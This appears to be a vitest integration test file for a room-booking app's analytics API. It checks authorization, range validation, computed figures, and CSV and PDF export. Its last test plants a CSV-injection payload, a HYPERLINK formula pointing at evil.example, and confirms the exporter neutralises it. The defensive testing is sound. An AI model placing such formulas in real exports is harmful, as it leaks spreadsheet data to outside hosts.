import { parse as parseCsv } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import { DateTime } from "luxon";
import { beforeAll, describe, expect, it } from "vitest";
import * as capacityRoute from "@/app/api/analytics/capacity/route";
import * as exportRoute from "@/app/api/analytics/export/route";
import * as departmentsRoute from "@/app/api/analytics/ghosting/departments/route";
import * as ghostingRoute from "@/app/api/analytics/ghosting/route";
import * as heatmapRoute from "@/app/api/analytics/heatmap/route";
import * as kpiRoute from "@/app/api/analytics/kpi/route";
import * as compareRoute from "@/app/api/analytics/rooms/compare/route";
import * as trendsRoute from "@/app/api/analytics/trends/route";
import * as utilizationRoute from "@/app/api/analytics/utilization/route";
import type { Handler } from "@/lib/http/route";
import { getDb } from "@/db/client";
import { bookings } from "@/db/schema";
import { call, createTestUser, resetDatabase, type TestUser } from "../helpers";
import { insertDevice } from "../fixtures/devices";
import { createTestBuilding, createTestRoom } from "../fixtures/rooms";

/*
 * HTTP contract of CONTRACT §5. The exact figures are worked out in lib/analytics/service.test.ts; here one past
 * booking in a UTC building proves the wiring: 2 business days ago… the period is "last 14 days" relative to today.
 */
let admin: TestUser;
let member: TestUser;
let deviceToken: string;
let roomId: string;
let otherRoomId: string;
let buildingId: string;
const ZONE = "UTC";
const today = DateTime.utc().toFormat("yyyy-MM-dd");
const start = DateTime.utc().minus({ days: 13 }).toFormat("yyyy-MM-dd");
const RANGE = `startDate=${start}&endDate=${today}`;

const ENDPOINTS: [string, Record<string, unknown>, string][] = [
  ["/api/analytics/kpi", kpiRoute, ""],
  ["/api/analytics/utilization", utilizationRoute, ""],
  ["/api/analytics/ghosting", ghostingRoute, ""],
  ["/api/analytics/capacity", capacityRoute, ""],
  ["/api/analytics/heatmap", heatmapRoute, ""],
  ["/api/analytics/trends", trendsRoute, "&metric=bookings"],
  ["/api/analytics/rooms/compare", compareRoute, "&roomIds=ROOM"],
  ["/api/analytics/ghosting/departments", departmentsRoute, ""],
  ["/api/analytics/export", exportRoute, "&format=csv"],
];

/** A weekday at 10:00–11:00 UTC within the last 14 days, at least two days ago. */
function pastWeekdaySlot(): { start: Date; end: Date } {
  let d = DateTime.utc().minus({ days: 2 }).startOf("day");
  while (d.weekday > 5) d = d.minus({ days: 1 });
  return { start: d.plus({ hours: 10 }).toJSDate(), end: d.plus({ hours: 11 }).toJSDate() };
}

beforeAll(async () => {
  await resetDatabase();
  admin = await createTestUser({ role: "admin" });
  member = await createTestUser({ department: "Research" });
  const building = await createTestBuilding({ name: "Greenwich", timezone: ZONE });
  buildingId = building.id;
  roomId = (await createTestRoom({ buildingId, name: "Meridian", capacity: 6 })).id;
  otherRoomId = (await createTestRoom({ buildingId, name: "Observatory", capacity: 2 })).id;
  deviceToken = (await insertDevice(roomId)).token;
  const slot = pastWeekdaySlot();
  const db = await getDb();
  await db.insert(bookings).values([
    { roomId, organizerId: member.id, title: 'Budget, "final"\nround', startTime: slot.start, endTime: slot.end, status: "completed", checkedInAt: slot.start, attendeeCount: 3 },
    { roomId: otherRoomId, organizerId: member.id, title: "Stand-up", startTime: slot.start, endTime: slot.end, status: "no_show", endedAt: new Date(slot.start.getTime() + 15 * 60_000) },
    { roomId: otherRoomId, organizerId: admin.id, title: "Cancelled", startTime: new Date(slot.start.getTime() - 86_400_000 * 2), endTime: new Date(slot.end.getTime() - 86_400_000 * 2), status: "cancelled" },
  ]);
});

/** GET through the route handler; a file download (the export) comes back as text instead of JSON. */
async function get(module: Record<string, unknown>, path: string, token?: string) {
  if (module !== exportRoute) return call(module, { path: path.replace("ROOM", roomId), token });
  const req = new Request(`http://localhost:3000${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  const res = await (exportRoute.GET as Handler)(req, { params: Promise.resolve({}) });
  const text = await res.text();
  return { status: res.status, headers: res.headers, json: res.headers.get("content-type")?.startsWith("application/json") ? JSON.parse(text) : text };
}

describe("every analytics endpoint (CONTRACT §5)", () => {
  it.each(ENDPOINTS)("%s: 401 without a token, 403 for a member and for a door tablet", async (path, module, extra) => {
    const url = `${path}?${RANGE}${extra}`;
    expect((await get(module, url)).status).toBe(401);
    const asMember = await get(module, url, member.token);
    expect(asMember.status).toBe(403);
    expect(asMember.json).toMatchObject({ success: false, code: "forbidden" });
    const asDevice = await get(module, url, deviceToken);
    expect(asDevice.status).toBe(403);
  });

  it.each(ENDPOINTS)("%s: 400 for a missing, malformed, inverted or too long range", async (path, module, extra) => {
    const cases: [string, string][] = [
      [`endDate=${today}`, "startDate"],
      [`startDate=${start}`, "endDate"],
      [`startDate=2026-02-30&endDate=${today}`, "startDate"],
      [`startDate=yesterday&endDate=${today}`, "startDate"],
      [`startDate=${today}&endDate=${start}`, "endDate"],
      ["startDate=2025-01-01&endDate=2026-01-02", "endDate"],
      ["start_date=2025-01-01&end_date=2026-01-02", "endDate"],
      [`${RANGE}&building=not-a-uuid`, "building"],
      [`${RANGE}&foo=1`, "query"],
    ];
    for (const [query, field] of cases) {
      const res = await get(module, `${path}?${query}${extra}`, admin.token);
      expect(res.status, query).toBe(400);
      expect(res.json.code).toBe("validation_error");
      expect(Object.keys(res.json.fields), query).toContain(field);
    }
  });

  it.each(ENDPOINTS)("%s: 366 days is allowed, in either query spelling; 404 for an unknown building", async (path, module, extra) => {
    const longest = DateTime.fromISO(today).minus({ days: 365 }).toFormat("yyyy-MM-dd");
    expect((await get(module, `${path}?startDate=${longest}&endDate=${today}${extra}`, admin.token)).status).toBe(200);
    expect((await get(module, `${path}?start_date=${start}&end_date=${today}${extra}`, admin.token)).status).toBe(200);
    const unknown = await get(module, `${path}?${RANGE}${extra}&building=00000000-0000-4000-8000-000000000000`, admin.token);
    expect(unknown.status).toBe(404);
  });

  it("405 with Allow for a write method", async () => {
    const res = await call(kpiRoute, { method: "POST", path: `/api/analytics/kpi?${RANGE}`, token: admin.token, body: {} });
    expect(res.status).toBe(405);
    expect(res.headers.get("allow")).toContain("GET");
  });
});

describe("the figures through HTTP", () => {
  it("kpi: seven cards in the contract's order", async () => {
    const res = await get(kpiRoute, `/api/analytics/kpi?${RANGE}`, admin.token);
    expect(res.status).toBe(200);
    expect(res.json.data.map((k: { label: string }) => k.label)).toEqual([
      "Total Rooms", "Avg Utilization", "Ghosting Rate", "Total Bookings", "Booked Utilization", "Wasted Hours", "Recovered Hours",
    ]);
    const byLabel = Object.fromEntries(res.json.data.map((k: { label: string; value: number }) => [k.label, k.value]));
    // 2 rooms; 2 counted bookings (the cancellation is out); 1 no-show of 2 resolved; 1 scheduled hour wasted; 45 min recovered.
    expect(byLabel).toMatchObject({ "Total Rooms": 2, "Total Bookings": 2, "Ghosting Rate": 50, "Wasted Hours": 1, "Recovered Hours": 0.8 });
    expect(res.json.data[0]).toEqual({ label: "Total Rooms", value: 2, change: null, changeType: "neutral", unit: "rooms" });
  });

  it("utilization, ghosting and capacity list every room with the contract's fields", async () => {
    const u = await get(utilizationRoute, `/api/analytics/utilization?${RANGE}&building=${buildingId}`, admin.token);
    expect(u.status).toBe(200);
    const meridian = u.json.data.find((r: { roomId: string }) => r.roomId === roomId);
    expect(meridian).toMatchObject({ roomName: "Meridian", totalBookings: 1, totalHoursBooked: 1, totalHoursUsed: 1, peakHours: ["10:00"] });
    expect(Object.keys(meridian)).toEqual(expect.arrayContaining(["roomId", "roomName", "utilizationRate", "bookedRate", "totalBookings", "totalHoursBooked", "totalHoursUsed", "peakHours"]));
    const g = await get(ghostingRoute, `/api/analytics/ghosting?${RANGE}`, admin.token);
    expect(g.json.data.find((r: { roomId: string }) => r.roomId === otherRoomId)).toMatchObject({ ghostingRate: 100, totalNoShows: 1, totalBookings: 1, averageWastedMinutes: 60 });
    const c = await get(capacityRoute, `/api/analytics/capacity?${RANGE}`, admin.token);
    expect(c.json.data.find((r: { roomId: string }) => r.roomId === roomId)).toMatchObject({ roomCapacity: 6, averageAttendees: 3, capacityUtilization: 50, oversizedBookings: 0, undersizedBookings: 0, rightSizedBookings: 1 });
    expect(c.json.data).toHaveLength(2);
  });

  it("heatmap, trends, departments and compare", async () => {
    const h = await get(heatmapRoute, `/api/analytics/heatmap?${RANGE}`, admin.token);
    expect(h.json.data).toHaveLength(5 * 10);
    expect(h.json.data[0]).toEqual({ day: "Monday", hour: 8, value: expect.any(Number) });
    const t = await get(trendsRoute, `/api/analytics/trends?${RANGE}&metric=bookings`, admin.token);
    expect(t.json.data).toHaveLength(14);
    expect(t.json.data.reduce((n: number, p: { value: number }) => n + p.value, 0)).toBe(2);
    const bad = await get(trendsRoute, `/api/analytics/trends?${RANGE}&metric=happiness`, admin.token);
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.json.fields)).toEqual(["metric"]);
    const missing = await get(trendsRoute, `/api/analytics/trends?${RANGE}`, admin.token);
    expect(missing.status).toBe(400);
    const d = await get(departmentsRoute, `/api/analytics/ghosting/departments?${RANGE}`, admin.token);
    expect(d.json.data).toEqual([{ department: "Research", ghostingRate: 50, totalNoShows: 1, totalBookings: 2 }]);
    const cmp = await get(compareRoute, `/api/analytics/rooms/compare?${RANGE}&roomIds=${otherRoomId},${roomId}`, admin.token);
    expect(cmp.json.data.map((r: { roomName: string }) => r.roomName)).toEqual(["Observatory", "Meridian"]);
    expect(cmp.json.data[0]).toEqual({ roomId: otherRoomId, roomName: "Observatory", utilization: 0, ghosting: 100, capacity: 0, bookings: 1 });
    expect((await get(compareRoute, `/api/analytics/rooms/compare?${RANGE}&roomIds=x`, admin.token)).status).toBe(400);
    expect((await get(compareRoute, `/api/analytics/rooms/compare?${RANGE}`, admin.token)).status).toBe(400);
    const unknown = await get(compareRoute, `/api/analytics/rooms/compare?${RANGE}&roomIds=00000000-0000-4000-8000-000000000000`, admin.token);
    expect(unknown.status).toBe(404);
  });
});

describe("export", () => {
  async function download(query: string) {
    const req = new Request(`http://localhost:3000/api/analytics/export?${query}`, { headers: { authorization: `Bearer ${admin.token}` } });
    return (exportRoute.GET as Handler)(req, { params: Promise.resolve({}) });
  }

  it("CSV: an attachment, RFC 4180 (CRLF, quoted fields), one row per booking of every status in the period", async () => {
    const res = await download(`${RANGE}&format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="circle-time-bookings_.+\.csv"$/);
    const text = await res.text();
    expect(text.startsWith("Booking ID,Room,Building,Title,Organizer,Department,Start,End,Ended At,Status,Checked In,Attendees\r\n")).toBe(true);
    expect(text).toContain('"Budget, ""final""\nround"');
    const rows = parseCsv(text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(3);
    const budget = rows.find((r) => r.Room === "Meridian")!;
    expect(budget).toMatchObject({ Title: 'Budget, "final"\nround', Building: "Greenwich", Department: "Research", Status: "completed", "Checked In": "true", Attendees: "3", "Ended At": "" });
    expect(budget.Start).toMatch(/^\d{4}-\d{2}-\d{2}T10:00:00\.000Z$/);
    expect(rows.map((r) => r.Status).sort()).toEqual(["cancelled", "completed", "no_show"]);
  });

  it("CSV pages through a long period in start order: 5,000+ rows, and a building whose rows come only after a full page of others", async () => {
    // 5,050 cancelled bookings (they may overlap) in a second building on the period's first day, before Meridian's.
    const other = await createTestBuilding({ name: "Elsewhere", timezone: "Asia/Tokyo" });
    const otherRoom = await createTestRoom({ buildingId: other.id, name: "Far" });
    const db = await getDb();
    const first = DateTime.fromISO(start, { zone: "Asia/Tokyo" }).plus({ hours: 9 }).toJSDate();
    await db.execute(sql`
      insert into bookings (room_id, organizer_id, title, start_time, end_time, status)
      select ${otherRoom.id}::uuid, ${member.id}::uuid, 'Bulk ' || g, ${first.toISOString()}::timestamptz + g * interval '1 second',
             ${first.toISOString()}::timestamptz + g * interval '1 second' + interval '30 minutes', 'cancelled'
      from generate_series(1, 5050) g`);
    try {
      const all = parseCsv(await (await download(`${RANGE}&format=csv`)).text(), { columns: true }) as Record<string, string>[];
      expect(all).toHaveLength(5053);
      const starts = all.map((r) => r.Start);
      expect(starts).toEqual([...starts].sort());
      expect(new Set(all.map((r) => r["Booking ID"])).size).toBe(5053);
      const greenwich = parseCsv(await (await download(`${RANGE}&format=csv&building=${buildingId}`)).text(), { columns: true }) as Record<string, string>[];
      expect(greenwich.map((r) => r.Room).sort()).toEqual(["Meridian", "Observatory", "Observatory"]);
    } finally {
      await db.execute(sql`delete from bookings where room_id = ${otherRoom.id}::uuid`);
    }
  });

  it("PDF: an attachment that is a PDF", async () => {
    const res = await download(`${RANGE}&format=pdf&building=${buildingId}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/pdf");
    expect(res.headers.get("content-disposition")).toMatch(/filename="circle-time-report_.+_greenwich\.pdf"$/);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect(bytes.subarray(0, 5).toString()).toBe("%PDF-");
    expect(bytes.length).toBeGreaterThan(2000);
  });

  it("PDF: names in any script are set in an embedded Unicode font; the file name keeps their Latin letters", async () => {
    const zurich = await createTestBuilding({ name: "Zürich Ωmega", timezone: "Europe/Zurich" });
    await createTestRoom({ buildingId: zurich.id, name: "Κόμβος Ж" });
    const res = await download(`${RANGE}&format=pdf&building=${zurich.id}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toMatch(/filename="circle-time-report_.+_zurich-mega\.pdf"$/);
    const text = Buffer.from(await res.arrayBuffer()).toString("latin1");
    expect(text).toMatch(/\/BaseFont \/[A-Z]{6}\+DejaVuSans\b/);
    expect(text).not.toMatch(/\/BaseFont \/Helvetica/);
  });

  it("400 for an unknown format, 403 for a member", async () => {
    const res = await download(`${RANGE}&format=xlsx`);
    expect(res.status).toBe(400);
    const req = new Request(`http://localhost:3000/api/analytics/export?${RANGE}&format=csv`, { headers: { authorization: `Bearer ${member.token}` } });
    expect((await (exportRoute.GET as Handler)(req, { params: Promise.resolve({}) })).status).toBe(403);
  });
});

describe("export of hostile text", () => {
  it("CSV: a cell starting with =, +, -, @, tab or CR is prefixed with ' so a spreadsheet shows it instead of running it (OWASP CSV injection)", async () => {
    const db = await getDb();
    const slot = pastWeekdaySlot();
    const [row] = await db
      .insert(bookings)
      .values({ roomId, organizerId: member.id, title: '=HYPERLINK("http://evil.example/?"&A2,"Open")', startTime: slot.start, endTime: slot.end, status: "cancelled" })
      .returning({ id: bookings.id });
    try {
      const text = (await get(exportRoute, `/api/analytics/export?${RANGE}&format=csv`, admin.token)).json as string;
      const rows = parseCsv(text, { columns: true }) as Record<string, string>[];
      expect(rows.find((r) => r["Booking ID"] === row.id)?.Title).toBe(`'=HYPERLINK("http://evil.example/?"&A2,"Open")`);
    } finally {
      await db.execute(sql`delete from bookings where id = ${row.id}`);
    }
  });
});
